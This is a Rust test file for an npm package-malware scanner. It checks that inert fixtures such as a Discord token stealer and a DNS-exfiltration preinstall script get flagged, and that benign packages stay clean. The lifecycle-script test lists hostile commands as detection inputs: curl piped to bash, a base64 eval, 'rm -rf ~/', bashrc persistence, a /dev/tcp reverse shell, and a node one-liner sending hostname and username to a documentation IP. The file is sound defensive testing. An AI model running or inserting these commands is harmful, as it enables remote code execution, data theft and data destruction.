//! Whole-package results on inert npm fixtures (`tests/fixtures/npm/`, see
//! its README): the malicious ones are malicious with the right rule at the
//! right place, the benign ones have no finding above Low.

mod support;

use sluice_analyze::{FileRole, Options, analyze, manifest};
use sluice_model::{Ecosystem, Report, Severity, VerdictLevel};

fn scan(name: &str) -> Report {
    analyze(name, &support::load(name), &Options::default())
}

/// Malicious, with `rule` at `file:line` at `severity`, and among the drivers.
fn assert_malicious(name: &str, rule: &str, file: &str, line: u32, severity: Severity) {
    let r = scan(name);
    let hit = r.findings.iter().find(|f| {
        f.rule.as_str() == rule && f.file.as_deref() == Some(file) && f.line == Some(line)
    });
    let hit = hit.unwrap_or_else(|| {
        panic!(
            "{name}: no {rule} at {file}:{line}\n{}",
            support::summary(&r)
        )
    });
    assert_eq!(hit.severity, severity, "{name}: {}", support::summary(&r));
    assert!(hit.install_time, "{name}: {rule} should be install-time");
    assert_eq!(
        r.verdict.level,
        VerdictLevel::Malicious,
        "{name}: {}",
        support::summary(&r)
    );
    assert!(
        r.verdict.drivers.iter().any(|f| f.rule.as_str() == rule),
        "{name}: {rule} is not among the drivers\n{}",
        support::summary(&r)
    );
    assert_eq!(r.ecosystem, Some(Ecosystem::Npm));
}

fn assert_benign(name: &str) {
    let r = scan(name);
    let loud: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.severity > Severity::Low && !f.preview)
        .collect();
    assert!(loud.is_empty(), "{name}: {}", support::summary(&r));
    assert_eq!(
        r.verdict.level,
        VerdictLevel::Clean,
        "{name}: {}",
        support::summary(&r)
    );
}

#[test]
fn r_dns_exfil_preinstall() {
    assert_malicious(
        "dns-exfil-preinstall",
        "JS203",
        "package/preinstall.js",
        14,
        Severity::Critical,
    );
}

#[test]
fn r_seed_recon_postinstall() {
    assert_malicious(
        "recon-postinstall",
        "JS201",
        "package/lib/setup.js",
        18,
        Severity::Critical,
    );
    let r = scan("recon-postinstall");
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule.as_str() == "INTEL503" && f.line == Some(13)),
        "{}",
        support::summary(&r)
    );
    assert!(r.indicators.iter().any(|i| i.value == "175.24.100.2"));
}

#[test]
fn r_obfuscated_eval_on_require() {
    assert_malicious(
        "obfuscated-main",
        "JS204",
        "package/index.js",
        4,
        Severity::Critical,
    );
}

#[test]
fn r_curl_pipe_sh_lifecycle() {
    assert_malicious(
        "curl-sh-lifecycle",
        "PKG351",
        "package/package.json",
        7,
        Severity::Critical,
    );
}

#[test]
fn r_dependency_confusion_template() {
    assert_malicious(
        "depconf-template",
        "JS201",
        "package/index.js",
        43,
        Severity::Critical,
    );
}

#[test]
fn r_discord_token_stealer() {
    assert_malicious(
        "discord-stealer",
        "JS203",
        "package/index.js",
        23,
        Severity::Critical,
    );
    let r = scan("discord-stealer");
    assert!(
        r.findings.iter().any(|f| f.rule.as_str() == "INTEL502"),
        "{}",
        support::summary(&r)
    );
}

#[test]
fn benign_packages_stay_quiet() {
    for name in [
        "cli-tool",
        "native-addon",
        "banner-postinstall",
        "api-client",
    ] {
        assert_benign(name);
    }
}

#[test]
fn manifest_metadata_and_roles() {
    let tree = support::load("cli-tool");
    let m = manifest::read(&tree);
    assert_eq!(m.ecosystem, Some(Ecosystem::Npm));
    let md = &m.metadata;
    assert_eq!(md.name.as_deref(), Some("git-tidy"));
    assert_eq!(md.version.as_deref(), Some("3.1.0"));
    assert_eq!(md.author.as_deref(), Some("A. Maintainer"));
    assert_eq!(md.author_email.as_deref(), Some("maint@example.org"));
    assert_eq!(
        md.repository.as_deref(),
        Some("git+https://github.com/example/git-tidy.git")
    );
    assert_eq!(md.license.as_deref(), Some("MIT"));
    assert_eq!(md.dependencies, vec!["commander@^12.0.0".to_owned()]);
    assert_eq!(
        md.entry_points.get("bin:git-tidy").map(String::as_str),
        Some("bin/cli.js")
    );
    assert_eq!(m.role_of("package/lib/index.js"), FileRole::Import);
    assert_eq!(m.role_of("package/bin/cli.js"), FileRole::Entry);

    let m = manifest::read(&support::load("recon-postinstall"));
    assert_eq!(m.role_of("package/lib/setup.js"), FileRole::Install);
    assert_eq!(
        m.metadata
            .install_hooks
            .get("postinstall")
            .map(String::as_str),
        Some("node lib/setup.js")
    );
    assert_eq!(m.metadata.author.as_deref(), Some("jackson"));
    assert_eq!(
        m.metadata.author_email.as_deref(),
        Some("jackson@example.com")
    );
}

#[test]
fn manifest_at_root_and_scripts_folder() {
    // package.json at the tree root; the install script lives in `scripts/`,
    // which would otherwise count as auxiliary.
    let tree = support::tree_of(&[
        (
            "package.json",
            r#"{"name":"x","version":"1.0.0","scripts":{"preinstall":"node ./scripts/pre"}}"#,
        ),
        (
            "scripts/pre.js",
            "require('https').get('https://192.0.2.1/')",
        ),
        ("index.js", ""),
    ]);
    let m = manifest::read(&tree);
    assert_eq!(m.role_of("scripts/pre.js"), FileRole::Install);
    assert_eq!(m.role_of("index.js"), FileRole::Import);
}

#[test]
fn malformed_manifests_are_findings() {
    for bad in [
        "{",
        "[1,2]",
        "\u{feff}{\"name\":1",
        &format!("{}1{}", "[".repeat(10_000), "]".repeat(10_000)),
        "{\"scripts\": {\"postinstall\": 5}, \"bin\": 7, \"author\": []}",
    ] {
        let tree = support::tree_of(&[("package/package.json", bad), ("package/index.js", "")]);
        let r = analyze("bad", &tree, &Options::default());
        assert_eq!(r.ecosystem, Some(Ecosystem::Npm));
        if !bad.contains("scripts") {
            assert!(
                r.findings.iter().any(|f| f.rule.as_str() == "PKG359"),
                "{bad:.40}: {}",
                support::summary(&r)
            );
        }
    }
}

#[test]
fn url_dependencies_and_bin_shadowing() {
    let pj = r#"{
  "name": "helper",
  "version": "1.0.0",
  "bin": { "ls": "cli.js", "helper": "cli.js" },
  "dependencies": {
    "a": "https://192.0.2.9/a.tgz",
    "b": "github:someone/b",
    "c": "^1.0.0"
  }
}"#;
    let tree = support::tree_of(&[("package/package.json", pj), ("package/cli.js", "")]);
    let m = manifest::read(&tree);
    let codes: Vec<(&str, u32, Severity)> = m
        .findings
        .iter()
        .map(|f| (f.rule.as_str(), f.line.unwrap_or(0), f.severity))
        .collect();
    assert!(codes.contains(&("PKG357", 6, Severity::High)), "{codes:?}");
    assert!(codes.contains(&("PKG357", 7, Severity::Low)), "{codes:?}");
    assert_eq!(
        codes.iter().filter(|c| c.0 == "PKG357").count(),
        2,
        "{codes:?}"
    );
    assert_eq!(
        codes.iter().filter(|c| c.0 == "PKG358").count(),
        1,
        "{codes:?}"
    );
}

#[test]
fn lifecycle_script_patterns() {
    let cases = [
        ("node-gyp rebuild", &[][..]),
        ("node install.js", &[][..]),
        ("curl -s https://192.0.2.3/x | bash", &["PKG351"][..]),
        (
            "node -e \"eval(Buffer.from('eA==','base64').toString())\"",
            &["PKG351", "JS204"][..],
        ),
        ("wget https://192.0.2.3/x -O /tmp/x", &["PKG352"][..]),
        ("echo 'node x.js' >> ~/.bashrc", &["PKG353"][..]),
        ("rm -rf ~/", &["PKG354"][..]),
        ("bash -i >& /dev/tcp/192.0.2.4/9001 0>&1", &["PKG355"][..]),
        ("whoami && hostname", &["PKG356"][..]),
        (
            "node -e \"require('https').get('https://192.0.2.8/?h=' + require('os').hostname() + require('os').userInfo().username)\"",
            &["JS201", "JS209"][..],
        ),
    ];
    for (cmd, want) in cases {
        let pj =
            serde_json::json!({"name": "p", "version": "1.0.0", "scripts": {"postinstall": cmd}})
                .to_string();
        let tree = support::tree_of(&[("package/package.json", &pj), ("package/install.js", "")]);
        let m = manifest::read(&tree);
        let got: Vec<&str> = m
            .findings
            .iter()
            .map(|f| f.rule.as_str())
            .filter(|c| *c != "PKG350")
            .collect();
        assert_eq!(got, want, "{cmd}");
        assert!(
            m.findings
                .iter()
                .any(|f| f.rule.as_str() == "PKG350" && f.severity == Severity::Info)
        );
    }
}
